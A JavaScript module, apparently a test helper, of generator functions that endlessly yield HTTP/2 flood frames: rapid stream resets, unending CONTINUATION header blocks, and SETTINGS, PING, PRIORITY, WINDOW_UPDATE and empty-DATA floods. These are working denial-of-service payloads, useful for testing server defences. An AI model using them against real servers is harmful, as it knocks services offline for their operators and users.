// What an attacker can send over HTTP/2 without end, for little: each yields bytes as long as it is asked.
import { frame, HELLO } from "./http2.js";

export const floods = {
    "requests that are reset": function* () {
        for (let id = 1; ; id += 2) {
            yield Buffer.concat([frame(1, 5, id, HELLO), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
        }
    },
    "streams that we have to reset": function* () {
        for (let id = 1; ; id += 2) {
            yield Buffer.concat([frame(1, 4, id, HELLO),
                frame(8, 0, id, Buffer.from([0x7f, 0xff, 0xff, 0xff]))]);
        }
    },
    "header blocks without end": function* () {
        yield frame(1, 0, 1, HELLO);
        for (;;) {
            yield frame(9, 0, 1, Buffer.from("\0\x01a\x01b", "latin1"));
        }
    },
    "settings": function* () {
        for (;;) {
            yield frame(4, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
        }
    },
    "pings": function* () {
        for (;;) {
            yield Buffer.concat(Array(100).fill(frame(6, 0, 0, Buffer.alloc(8))));
        }
    },
    "empty data": function* () {
        yield frame(1, 4, 1, Buffer.concat([Buffer.from([0x83]), HELLO.subarray(1)]));
        for (;;) {
            yield frame(0, 0, 1);
        }
    },
    "priorities": function* () {
        for (;;) {
            yield Buffer.concat(Array(100).fill(frame(2, 0, 1, Buffer.from([0, 0, 0, 0, 16]))));
        }
    },
    "window updates": function* () {
        for (;;) {
            yield Buffer.concat(Array(100).fill(frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))));
        }
    },
};
